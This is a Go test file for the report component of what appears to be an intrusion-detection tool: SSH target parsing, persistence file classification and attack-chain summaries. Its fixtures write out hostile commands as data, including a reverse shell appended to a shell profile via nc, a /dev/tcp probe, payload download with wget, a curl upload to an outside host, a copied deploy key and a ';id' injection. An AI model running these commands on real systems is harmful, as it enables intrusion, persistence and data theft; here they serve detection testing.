package report

import (
	"html"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestSummaryHelpers(t *testing.T) {
	t.Run("sshTarget", func(t *testing.T) {
		for _, tc := range []struct {
			args []string
			want string
		}{
			{[]string{"ssh", "-i", "/tmp/.k", "-o", "BatchMode=yes", "deploy@10.0.0.5", "id"}, "deploy@10.0.0.5"},
			{[]string{"ssh", "-l", "root", "-p", "2222", "db01"}, "root@db01"},
			{[]string{"ssh", "-v"}, ""},
			// scp's operands are files; the remote one has a host part,
			// and its -l is a bandwidth limit, not a login
			{[]string{"scp", "-q", "-i", "/var/tmp/.nk", "-o", "StrictHostKeyChecking=no", "/var/tmp/.n.sql", "labremote@127.0.0.1:drop/db.sql"}, "labremote@127.0.0.1"},
			{[]string{"scp", "-l", "800", "-P", "2222", "db01:/etc/motd", "/tmp/m"}, "db01"},
			{[]string{"scp", "/tmp/a", "/tmp/b"}, ""},
			{[]string{"scp", "/tmp/a", "scp://root@10.0.0.5:2222/x"}, "root@10.0.0.5"},
			{[]string{"sftp", "-i", "/tmp/.k", "ops@files:/upload"}, "ops@files"},
			{[]string{"scp", "/tmp/a", "ops@[fe80::1]:/tmp/"}, "ops@[fe80::1]"},
			{[]string{"scp", "./a:b", "/tmp/"}, ""},
		} {
			if got := sshTarget(tc.args); got != tc.want {
				t.Errorf("sshTarget(%q) = %q, want %q", tc.args, got, tc.want)
			}
		}
	})
	t.Run("writtenPaths", func(t *testing.T) {
		for _, tc := range []struct {
			args []string
			cmd  string
			want []string
		}{
			{[]string{"cp", "/var/www/html/backup/deploy_key", "/tmp/.k"}, "", []string{"/tmp/.k"}},
			{[]string{"tar", "czf", "/tmp/.d.tgz", "-C", "/var/www/html", "data"}, "", []string{"/tmp/.d.tgz"}},
			{[]string{"tar", "xzf", "/tmp/.d.tgz"}, "", nil},
			{[]string{"wget", "-q", "http://h/x", "-O", "/tmp/.sysd"}, "", []string{"/tmp/.sysd"}},
			{[]string{"sh"}, `echo "x" >> /home/u/.profile 2>/dev/null`, []string{"/home/u/.profile"}},
			{[]string{"sh"}, `id > /dev/null 2>&1`, nil},
			{[]string{"sed", "-i", "1i dig x", "/home/u/.bashrc"}, "", []string{"/home/u/.bashrc"}},
			// a '>' inside quotes is text (here echoed into a profile), not
			// a redirection of this shell
			{[]string{"sh"}, `echo "[ -p /tmp/.q ] || sh -c 'sh -i </tmp/.q | nc h 1 >/tmp/.q'" >> /home/u/.profile`, []string{"/home/u/.profile"}},
			{[]string{"sh"}, `echo 'x > /tmp/a' "y >/tmp/b" \"z >/tmp/c`, []string{"/tmp/c"}},
			{[]string{"sh"}, `bash -c 'for p in 1 2; do (echo > /dev/tcp/h/$p); done' > /tmp/.o`, []string{"/tmp/.o"}},
		} {
			name := baseName(tc.args[0])
			if got := writtenPaths(name, tc.args, tc.cmd); !slices.Equal(got, tc.want) {
				t.Errorf("writtenPaths(%q, %q) = %q, want %q", tc.args, tc.cmd, got, tc.want)
			}
		}
	})
	t.Run("urlPeers", func(t *testing.T) {
		got := urlPeers([]string{"curl", "-s", "-T", "/tmp/a", "http://user@203.0.113.7:8080/u?x=1", "file:///etc/passwd"})
		if !slices.Equal(got, []string{"203.0.113.7:8080"}) {
			t.Errorf("urlPeers = %q", got)
		}
	})
	t.Run("containsCommand", func(t *testing.T) {
		if !containsCommand("ping -c 1 127.0.0.1;id", "id") || containsCommand("ping -c 1 127.0.0.1;idx", "id") {
			t.Error("containsCommand does not split on ;")
		}
	})
	t.Run("fileKind", func(t *testing.T) {
		for p, want := range map[string]string{
			"/var/spool/cron/crontabs/www-data": CleanPersistence,
			"/home/u/.ssh/authorized_keys":      CleanKey,
			"/etc/systemd/system/x.service":     CleanPersistence,
			"/home/u/.bashrc":                   CleanPersistence,
			"/etc/shadow":                       CleanFile, // the account database, changed: no account by itself
			"/etc/sudoers.d/ops":                CleanPersistence,
			"/etc/update-motd.d/99-x":           CleanPersistence,
			"/etc/pam.d/sshd":                   CleanPersistence,
			"/etc/php/8.2/fpm/php.ini":          CleanPersistence,
			"/etc/nginx/sites-enabled/default":  CleanPersistence,
			"/etc/nginx/ssl/shop.crt":           CleanFile, // a renewed certificate runs nothing
			"/var/www/html/.user.ini":           CleanPersistence,
			"/var/www/html/uploads/avatar.php":  CleanFile,
			"/etc/ld.so.preload":                CleanPersistence,
		} {
			if got := fileKind(p, 0); got != want {
				t.Errorf("fileKind(%s) = %s, want %s", p, got, want)
			}
		}
	})
	t.Run("linkIndex", func(t *testing.T) {
		a, b := "ancestry: pid 1159 (dash) spawned by php-fpm8.2 pid 31689", "pid 11590 (dash)"
		x := newLinkIndex([]string{b, a})
		if x.byPID[31689] != a || x.byPID[1159] != a || x.byPID[11590] != b {
			t.Error("a link is found by a prefix of a longer pid, or missed by a whole one")
		}
		if x.containing("php-fpm8.2", &DocFinding{}) != a || x.containing("nothing", &DocFinding{}) != "" {
			t.Error("containing")
		}
	})
}

// TestSummaryModel builds the summary of a small document: a told chain
// with an inferred stage, a folded low chain, the links and the clean-up.
func TestSummaryModel(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	proc := func(pid int, args ...string) *DocProcess {
		return &DocProcess{PID: pid, Exe: "/usr/bin/" + args[0], Args: args, User: "www-data", UID: 33,
			Ancestors: []DocAncestor{{PID: 900, Exe: "/usr/sbin/php-fpm8.2"}}}
	}
	d := &Document{
		Findings: []DocFinding{
			{ID: "F0001", Title: "Cron", Severity: "high", Stage: 5, StageID: "persistence", Time: t0, Kind: "exec",
				Summary: "exec crontab -", Process: proc(10, "crontab", "-"), ChainID: "C01"},
			{ID: "F0002", Title: "Reverse shell", Severity: "critical", Stage: 7, StageID: "command-and-control", Time: t0.Add(time.Second),
				Kind: "connect", Peer: "203.0.113.7:4444", Summary: "connect 203.0.113.7:4444", Process: proc(11, "bash", "-i"), ChainID: "C01"},
			{ID: "F0003", Title: "Shell spawn", Severity: "low", Stage: 3, StageID: "command-execution", Time: t0, Kind: "exec",
				Summary: "exec sh -c date", Process: proc(20, "sh", "-c", "date"), ChainID: "C02"},
		},
		Chains: []DocChain{
			{ID: "C01", Severity: "critical", Score: 400 + 20 + 5 + 2, FindingIDs: []string{"F0001", "F0002"},
				Links: []string{"ancestry: pid 11 (bash) spawned by php-fpm8.2 pid 900", "peer: 203.0.113.7:4444 used by pid 11"},
				Stages: []DocStage{
					{Stage: 1, StageID: "initial-access", Name: "Initial access", Observed: true, Confidence: "inferred", Reason: "inferred from stage 5"},
					{Stage: 5, StageID: "persistence", Name: "Persistence", Observed: true, Confidence: "observed", FirstSeen: t0, FindingIDs: []string{"F0001"}},
					{Stage: 7, StageID: "command-and-control", Name: "Command and control", Observed: true, Confidence: "observed", FirstSeen: t0.Add(time.Second), FindingIDs: []string{"F0002"}},
				}},
			{ID: "C02", Severity: "low", Score: 111, FindingIDs: []string{"F0003"},
				Stages: []DocStage{{Stage: 3, StageID: "command-execution", Name: "Command execution", Observed: true, Confidence: "observed", FindingIDs: []string{"F0003"}}}},
		},
	}
	buildSummary(d)
	s := d.Summary
	if len(s.Chains) != 1 || s.Chains[0].ChainID != "C01" || len(s.Folded) != 1 || s.Folded[0].ChainID != "C02" {
		t.Fatalf("told %+v, folded %+v: want C01 told and C02 folded", s.Chains, s.Folded)
	}
	st := s.Chains[0]
	if len(st.Sentences) != 3 || !st.Sentences[0].Inferred || !strings.Contains(st.Sentences[0].Text, "inferred") {
		t.Errorf("sentences %+v: want 3, the first the inferred stage 1 saying so", st.Sentences)
	}
	if st.ScoreParts != "400 critical + 20 for 2 stages observed + 5 for 1 inferred + 2 for findings" {
		t.Errorf("score parts %q", st.ScoreParts)
	}
	if strings.Contains(st.Sentences[1].Text, "www-data") {
		t.Errorf("the chain's one account is named again in %q (the headline says it)", st.Sentences[1].Text)
	}
	want := map[string]string{"/var/spool/cron/crontabs/www-data": CleanPersistence, "203.0.113.7:4444": CleanChannel}
	for _, c := range s.Cleanup {
		if want[c.What] == c.Kind {
			delete(want, c.What)
		}
	}
	if len(want) > 0 {
		t.Errorf("clean-up %+v misses %v", s.Cleanup, want)
	}
	if got := d.Findings[1].ChainLink; !strings.HasPrefix(got, "peer: 203.0.113.7:4444") {
		t.Errorf("F0002's chain link is %q, want the peer link", got)
	}
	// the only link naming php-fpm's pid 900 takes in bash[11]'s subtree:
	// it names 900 as bash's parent, which says nothing of crontab[10]
	if got := d.Findings[0].ChainLink; got != "" {
		t.Errorf("F0001's chain link is %q, want none: no link takes in its process or an ancestor", got)
	}
	x := newLinkIndex(d.Chains[0].Links)
	below := &DocFinding{Kind: "exec", Process: &DocProcess{PID: 12, Ancestors: []DocAncestor{{PID: 11, Exe: "/usr/bin/bash"}, {PID: 900, Exe: "/usr/sbin/php-fpm8.2"}}}}
	if got := x.findingLink(below); !strings.HasPrefix(got, "through its ancestor bash[11]: ancestry: pid 11") {
		t.Errorf("a child of bash[11] is explained by %q, want the ancestry link of bash[11]", got)
	}
}

// TestSummaryEveryWriter: the text and the HTML report tell the same
// summary, sentence by sentence, because both render the Document's.
func TestSummaryEveryWriter(t *testing.T) {
	c := attackCase(fixtureOptions{})
	d := NewDocument(c, goldenOptions())
	if d.Summary == nil || len(d.Summary.Chains) == 0 {
		t.Fatal("the attack fixture has no told chain")
	}
	text := string(render(t, "text", goldenOptions(), c))
	page := html.UnescapeString(string(render(t, "html", goldenOptions(), c)))
	flat := strings.Join(strings.Fields(text), " ")
	for _, x := range d.Summary.Chains[0].Sentences {
		words := strings.Join(strings.Fields(sanitize(x.Text)), " ")
		if !strings.Contains(flat, words) {
			t.Errorf("the text report lacks %q", words)
		}
		if !strings.Contains(page, sanitize(x.Text)) {
			t.Errorf("the HTML report lacks %q", x.Text)
		}
	}
	for _, cl := range d.Summary.Cleanup {
		if !strings.Contains(text, cl.What) || !strings.Contains(page, cl.What) {
			t.Errorf("clean-up %q is not in both reports", cl.What)
		}
	}
}

// TestNamesWithPathInfo: a URL names a written file followed by a
// path-info (shop-avatar's /uploads/avatars/c104729.gif/.php), never a
// file whose name only starts the same.
func TestNamesWithPathInfo(t *testing.T) {
	for _, c := range []struct {
		f, p string
		want bool
	}{
		{"/var/www/html/uploads/avatars/c1.gif", "/uploads/avatars/c1.gif/.php", true},
		{"/var/www/html/index.php", "/index.php/admin", true},
		{"/var/www/html/uploads/avatars/c1.gif", "/uploads/avatars/c1.gifx/.php", false},
		{"/var/www/html/uploads/avatars/xc1.gif", "c1.gif/.php", false},
		{"/var/www/html/uploads/avatars/c1.gif", "/uploads/avatars/c1.gif", false}, // no path-info: HasSuffix's
		{"/var/www/html/a", "/", false},
	} {
		if got := namesWithPathInfo(c.f, c.p); got != c.want {
			t.Errorf("namesWithPathInfo(%q, %q) = %v, want %v", c.f, c.p, got, c.want)
		}
	}
}
